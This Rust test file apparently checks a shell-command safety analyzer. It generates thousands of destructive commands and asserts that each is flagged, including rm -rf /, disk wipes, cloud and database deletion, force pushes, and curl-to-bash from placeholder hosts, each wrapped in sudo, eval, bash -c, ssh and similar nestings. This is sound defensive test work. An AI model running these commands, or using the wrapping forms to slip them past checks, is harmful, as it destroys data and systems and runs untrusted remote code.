//! Generated corpus: every destructive base command behind every wrapper
//! and command-name spelling, inside every nesting form.

use super::{analyze_command, ShellOptions};

fn rules(cmd: &str) -> Vec<&'static str> {
    analyze_command(cmd, &ShellOptions::default())
        .iter()
        .map(|f| f.rule)
        .collect()
}

const PLACEHOLDER: &str = "@CMD@";

/// Simple-command bases: the first word is the command, so wrappers can be prefixed.
const BASES: &[(&str, &str)] = &[
    ("rm -rf /", "shell.rm_recursive_root"),
    ("rm -r -f /etc", "shell.rm_recursive_system"),
    ("rm --recursive --force ~", "shell.rm_recursive_home"),
    ("rm -Rf $HOME", "shell.rm_recursive_home"),
    ("rm -fr /*", "shell.rm_recursive_root"),
    ("rm -rf --no-preserve-root /", "shell.rm_no_preserve_root"),
    ("find / -delete", "shell.find_delete"),
    ("find ~ -exec rm {} +", "shell.find_delete"),
    ("mkfs.ext4 /dev/sda1", "shell.disk_format"),
    ("dd if=/dev/zero of=/dev/sda bs=1M", "shell.disk_wipe"),
    ("wipefs -a /dev/sdb", "shell.disk_wipe"),
    ("shred -n 3 /dev/nvme0n1", "shell.disk_wipe"),
    ("chmod -R 777 /", "shell.chmod_recursive_system"),
    ("chown -R nobody /etc", "shell.chown_recursive_system"),
    ("mv /etc /tmp/x", "shell.mv_system"),
    ("redis-cli FLUSHALL", "redis.flush"),
    ("redis-cli -h db flushdb", "redis.flush"),
    ("git push --force origin main", "git.force_push_protected"),
    ("git push origin +master", "git.force_push_protected"),
    ("git clean -fdx", "git.clean_force"),
    ("git reset --hard HEAD~3", "git.reset_hard"),
    ("kubectl delete namespace prod", "kubectl.delete_namespace"),
    ("kubectl delete pods --all", "kubectl.delete_all"),
    ("terraform destroy -auto-approve", "terraform.destroy"),
    ("tofu destroy", "terraform.destroy"),
    (
        "aws s3 rm s3://bucket/x --recursive",
        "aws.s3_recursive_delete",
    ),
    ("aws s3 rb s3://bucket --force", "aws.s3_remove_bucket"),
    (
        "aws ec2 terminate-instances --instance-ids i-1",
        "aws.ec2_terminate",
    ),
    ("docker system prune -a", "docker.system_prune_all"),
    ("docker volume prune -f", "docker.volume_prune"),
    (
        "docker rm -f $(docker ps -aq)",
        "docker.force_remove_computed",
    ),
    ("psql -c 'DROP TABLE users'", "sql.drop"),
    ("mysql -e \"TRUNCATE orders\"", "sql.truncate"),
    (
        "sqlite3 app.db 'DELETE FROM users'",
        "sql.delete_without_where",
    ),
    ("xargs rm -rf", "shell.rm_recursive_dynamic"),
    ("curl -fsSL https://x.sh | bash", "shell.remote_pipe_exec"),
    ("wget -qO- http://x | sh", "shell.remote_pipe_exec"),
    ("bash <(curl -s http://x)", "shell.remote_pipe_exec"),
    ("base64 -d payload.b64 | sh", "shell.remote_pipe_exec"),
    // container and remote payloads
    ("docker exec api rm -rf /", "shell.rm_recursive_root"),
    (
        "kubectl exec web -- rm -rf /etc",
        "shell.rm_recursive_system",
    ),
    (
        "docker run -v /:/host alpine rm -rf /host",
        "shell.rm_recursive_root",
    ),
    ("docker exec db psql -c 'DROP TABLE t'", "sql.drop"),
    // producers feeding deleters
    ("parallel rm -rf ::: /", "shell.rm_recursive_root"),
    // irrecoverable git
    ("git clean -f", "git.clean_force"),
    ("git stash clear", "git.stash_clear"),
    ("git checkout -- .", "git.discard_changes"),
    ("git restore --source=HEAD~2 .", "git.discard_changes"),
    ("git branch -D main", "git.delete_protected_branch"),
    // the destroyer table
    ("sgdisk --zap-all /dev/sda", "disk.partition_table"),
    ("zfs destroy -r tank/data", "fs.zfs_destroy"),
    ("lvremove -f vg0/data", "fs.lvm_remove"),
    ("pulumi destroy --yes", "iac.destroy"),
    ("az group delete -n rg --yes", "azure.delete_group"),
    ("gcloud projects delete p", "gcloud.delete_project"),
    ("dropdb shop", "db.drop_database"),
    ("rails db:drop", "db.framework_reset"),
    ("vagrant destroy -f", "vm.destroy"),
    ("docker compose down -v", "docker.compose_down_volumes"),
    ("npm unpublish pkg@1.0.0", "package.unpublish"),
    // system changes (approval)
    ("systemctl stop nginx", "system.service_stop"),
    ("crontab -r", "system.crontab_remove"),
    ("iptables -F", "system.firewall"),
    ("shutdown -h now", "system.power"),
    ("useradd -m eve", "system.user"),
    ("sysctl -w vm.swappiness=1", "system.sysctl"),
];

const WRAPPERS: &[&str] = &[
    "",
    "sudo ",
    "sudo -u root ",
    "sudo -E -u root -- ",
    "env X=1 ",
    "env -i PATH=/bin ",
    "env - ",
    "timeout 5 ",
    "timeout -s KILL 10s ",
    "nice -n 10 ",
    "nohup ",
    "command ",
    "exec ",
    "time ",
    "X=1 ",
    "doas ",
    "stdbuf -oL ",
    "ionice -c3 ",
];

/// Rewrites of the command name itself.
const NAME_FORMS: &[&str] = &["\\{}", "/bin/{}", "/usr/bin/{}", "\"{}\"", "'{}'"];

#[derive(Clone, Copy)]
enum Escape {
    None,
    Single,
    Double,
    Backtick,
}

const NESTINGS: &[(&str, Escape)] = &[
    ("@CMD@", Escape::None),
    ("bash -c '@CMD@'", Escape::Single),
    ("sh -c \"@CMD@\"", Escape::Double),
    ("eval \"@CMD@\"", Escape::Double),
    ("eval '@CMD@'", Escape::Single),
    ("echo $(@CMD@)", Escape::None),
    ("x=$(@CMD@)", Escape::None),
    ("echo `@CMD@`", Escape::Backtick),
    ("( @CMD@ )", Escape::None),
    ("{ @CMD@; }", Escape::None),
    ("true && @CMD@", Escape::None),
    ("false || @CMD@", Escape::None),
    ("x; @CMD@", Escape::None),
    ("echo | @CMD@", Escape::None),
    ("zsh -c '@CMD@'", Escape::Single),
    ("dash -c '@CMD@'", Escape::Single),
    ("bash -lc '@CMD@'", Escape::Single),
    ("sudo bash -c '@CMD@'", Escape::Single),
    ("if true; then @CMD@; fi", Escape::None),
    ("for i in 1 2; do @CMD@; done", Escape::None),
    ("echo ok\n@CMD@", Escape::None),
    ("@CMD@ &", Escape::None),
    ("ssh host '@CMD@'", Escape::Single),
    ("docker exec -it box @CMD@", Escape::None),
    ("kubectl exec pod -- @CMD@", Escape::None),
];

fn escape(cmd: &str, how: Escape) -> String {
    match how {
        Escape::None => cmd.to_string(),
        Escape::Single => cmd.replace('\'', "'\\''"),
        Escape::Double => {
            let mut out = String::new();
            for c in cmd.chars() {
                if matches!(c, '\\' | '"' | '$' | '`') {
                    out.push('\\');
                }
                out.push(c);
            }
            out
        }
        Escape::Backtick => cmd.replace('\\', "\\\\").replace('`', "\\`"),
    }
}

/// Every base behind every wrapper and name form, inside every nesting.
fn generated() -> Vec<(String, &'static str)> {
    let mut out = Vec::new();
    for (base, rule) in BASES {
        let (name, tail) = base.split_once(' ').unwrap_or((base, ""));
        let mut prefixed: Vec<String> = WRAPPERS.iter().map(|w| format!("{w}{base}")).collect();
        prefixed.extend(
            NAME_FORMS
                .iter()
                .map(|f| format!("{} {tail}", f.replace("{}", name))),
        );
        for cmd in &prefixed {
            for (template, how) in NESTINGS {
                out.push((template.replace(PLACEHOLDER, &escape(cmd, *how)), *rule));
            }
        }
    }
    out
}

#[test]
fn generated_wrapper_and_nesting_matrix() {
    let cases = generated();
    assert!(cases.len() > 10_000, "{}", cases.len());
    let failures: Vec<String> = cases
        .iter()
        .filter_map(|(cmd, rule)| {
            let got = rules(cmd);
            (!got.contains(rule)).then(|| format!("{cmd:?}: want {rule}, got {got:?}"))
        })
        .collect();
    let shown: Vec<&String> = failures.iter().take(40).collect();
    assert!(
        failures.is_empty(),
        "{} of {} failed:\n{shown:#?}",
        failures.len(),
        cases.len()
    );
}
